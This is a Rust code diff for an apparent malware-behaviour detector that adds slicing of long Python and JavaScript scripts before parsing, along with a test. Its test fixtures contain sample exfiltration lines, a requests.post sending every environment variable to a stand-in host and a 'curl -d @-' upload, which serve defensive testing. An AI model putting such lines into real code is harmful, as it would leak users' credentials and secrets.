@@ -184,6 +184,12 @@ fn analyse_unit(unit: &units::Unit<'_>, world: &mut World) -> Found {
             return Found::default();
         }
     }
+    let sliced = slice(&unit.text, unit.lang);
+    let unit = &units::Unit {
+        lang: unit.lang,
+        text: sliced,
+        base: unit.base,
+    };
     match unit.lang {
         Lang::Shell => shell::analyse(&unit.text, unit.base, world),
         Lang::Python | Lang::JavaScript => script::analyse(unit.lang, &unit.text, unit.base, world),
@@ -311,6 +317,20 @@ mod gate {
             || TO_FILE.is_match(text) && EXEC.is_match(text)
     }
 
+    /// Whether a piece of a unit holds any word some rule needs (a source or a sink alone).
+    pub(super) fn relevant(text: &str) -> bool {
+        SINK.is_match(text)
+            || STOLEN.is_match(text)
+            || SECRET_VAR.is_match(text)
+            || SEND.is_match(text)
+            || DECODE.is_match(text)
+            || DECODE_RUN.is_match(text)
+            || PIPE_RUN.is_match(text)
+            || FETCH.is_match(text)
+            || RUNS.is_match(text)
+            || EXEC.is_match(text)
+    }
+
     /// Downloads that save a file (run later by name).
     static TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
         re(
@@ -354,6 +374,70 @@ mod gate {
         }
         out
     }
+}
+
+/// Units at least this long are sliced before parsing (see [`slice`]).
+const SLICE_FROM_BYTES: usize = 4096;
+
+/// A long script with its top-level statements that hold no word any rule needs blanked
+/// (spaces, newlines kept: positions do not move), so the parser and the walk see only the
+/// statements that matter, plus every import and top-level assignment (the names the kept
+/// statements may use). A big script that passed the gate for one line costs one line's
+/// parse, not the file's. A statement is a line at column 0 and the indented or continued
+/// lines after it.
+fn slice(text: &str, lang: Lang) -> std::borrow::Cow<'_, str> {
+    if text.len() < SLICE_FROM_BYTES || !matches!(lang, Lang::Python | Lang::JavaScript) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut chunk_start = 0;
+    let mut pos = 0;
+    let flush = |out: &mut String, chunk: &str| {
+        let first = chunk.trim_start();
+        let keep = first.starts_with("import ")
+            || first.starts_with("from ")
+            || first.starts_with("const ")
+            || first.starts_with("let ")
+            || first.starts_with("var ")
+            || is_assignment(first)
+            || gate::relevant(chunk);
+        if keep {
+            out.push_str(chunk);
+        } else {
+            // every byte becomes one space, so offsets after the chunk stay the file's
+            for c in chunk.chars() {
+                if c == '\n' {
+                    out.push('\n');
+                } else {
+                    out.extend(std::iter::repeat_n(' ', c.len_utf8()));
+                }
+            }
+        }
+    };
+    for line in text.split_inclusive('\n') {
+        let starts_statement = line
+            .starts_with(|c: char| !c.is_whitespace() && !matches!(c, ')' | ']' | '}' | '#' | '@'))
+            && !["else", "elif", "except", "finally", "catch"]
+                .iter()
+                .any(|k| line.starts_with(k));
+        if starts_statement && pos > chunk_start {
+            flush(&mut out, &text[chunk_start..pos]);
+            chunk_start = pos;
+        }
+        pos += line.len();
+    }
+    flush(&mut out, &text[chunk_start..]);
+    std::borrow::Cow::Owned(out)
+}
+
+/// `NAME = ...` (not `==`) at the start of a statement.
+fn is_assignment(line: &str) -> bool {
+    let name_end = line
+        .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
+        .unwrap_or(0);
+    name_end > 0
+        && line[name_end..].trim_start().starts_with('=')
+        && !line[name_end..].trim_start().starts_with("==")
 }
 
 /// Whether a unit may hold a behaviour ([`gate::open`]), or names a file an earlier unit of the
@@ -603,6 +687,40 @@ mod tests {
         assert_eq!(
             &text[found[0].span.start..found[0].span.end],
             "curl -d @- https://x.io"
+        );
+    }
+}
+
+#[cfg(test)]
+mod slice_tests {
+    use super::*;
+
+    #[test]
+    fn slicing_keeps_offsets_and_the_statements_that_matter() {
+        let filler: String = (0..200)
+            .map(|i| format!("def f{i}(x):\n    return x + {i}  # é\n\n"))
+            .collect();
+        let text = format!(
+            "import os, requests\nURL = 'https://x.io'\n{filler}def send():\n    requests.post(URL, json=dict(os.environ))\n"
+        );
+        let sliced = slice(&text, Lang::Python);
+        assert_eq!(sliced.len(), text.len());
+        let at = text.find("requests.post").unwrap();
+        assert_eq!(&sliced[at..at + 13], "requests.post");
+        assert!(!sliced.contains("def f7("));
+        assert!(sliced.contains("URL = 'https://x.io'"));
+        let mut world = World::default();
+        let unit = units::Unit {
+            lang: Lang::Python,
+            text: text.as_str().into(),
+            base: 0,
+        };
+        let found = analyse_unit(&unit, &mut world);
+        assert!(
+            found
+                .facts
+                .iter()
+                .any(|f| matches!(&f.act, facts::Act::Send { data, .. } if data.taint.is_stolen()))
         );
     }
 }
